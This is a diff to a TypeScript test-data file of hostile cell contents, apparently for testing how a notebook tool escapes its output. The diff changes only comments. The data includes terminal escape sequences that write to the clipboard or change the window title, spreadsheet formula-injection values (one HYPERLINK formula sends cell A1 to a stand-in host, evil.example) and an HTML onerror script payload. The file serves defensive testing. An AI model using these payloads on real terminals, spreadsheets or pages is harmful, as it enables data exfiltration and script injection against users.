@@ -1,7 +1,7 @@
 /** Texts that do something where they are shown. HTML has a table of its own, `test/support/hostile-cells.ts`. Data alone. */
 import { marker } from '../support/hostile-cells.ts';
 
-/** What a terminal carries out, by what it does. Each begins with `a` and holds a `b` behind the command. */
+/** Commands to a terminal, by what they do. Each text begins with `a` and has a `b` after the command. */
 export const terminalCommands: readonly (readonly [what: string, text: string])[] = [
   ['the clipboard', 'a\u001b]52;c;ZXZpbA==\u0007b'],
   ['the title', 'a\u001b]0;evil\u001b\\b'],
@@ -15,7 +15,7 @@ export const terminalCommands: readonly (readonly [what: string, text: string])[
   ['a device string', 'a\u001bP$q"p\u001b\\b'],
 ];
 
-/** Values that a spreadsheet runs. */
+/** Values that a spreadsheet would run as formulas. */
 export const formulas: readonly string[] = [
   '=1+1',
   '+x',
@@ -27,5 +27,5 @@ export const formulas: readonly string[] = [
   '=HYPERLINK("http://evil.example?"&A1)',
 ];
 
-/** Elements that run a script in a page that believes the notebook. */
+/** Elements that run a script in a page that trusts the notebook. */
 export const activeHtml: readonly string[] = [`<img src=x onerror='window.${marker}=1'>`];
